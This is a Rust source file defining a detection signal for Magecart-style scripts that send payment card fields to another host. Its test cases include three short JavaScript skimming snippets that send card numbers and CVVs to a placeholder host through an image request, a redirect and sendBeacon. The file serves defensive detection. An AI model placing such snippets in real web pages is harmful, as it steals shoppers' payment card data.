//! `card-data-sent-abroad`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "card-data-sent-abroad",
    description: "The script sends the values of card fields to another host.",
    severity: Severity::High,
    classes: ClassSet::MAGECART,
    needs: &[one(&[Atom::CardSentAbroad])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "pay.onclick=function(){document.body.insertAdjacentHTML('beforeend','<img src=\"https://c.example/p?'+encodeURIComponent(form.cardnumber.value+form.cvv.value)+'\">')}",
            "pay.onclick=function(){location.replace('https://c.example/p?'+encodeURIComponent(form.cardnumber.value+form.cvv.value))}",
            "var d={};d.n=document.getElementById('cc_number').value;d.c=document.getElementById('cvv').value;navigator.sendBeacon('https://c.example/g',JSON.stringify(d))",
        ],
        without: &[
            "form.cardnumber.oninput=function(){preview.innerHTML='<img src=\"https://cdn.example/logo.png\"><b>'+form.cardnumber.value+'</b>'}",
            "var d=document.getElementById('cc_number').value;if(luhn(d))fetch('/order',{body:d})",
        ],
    },
};
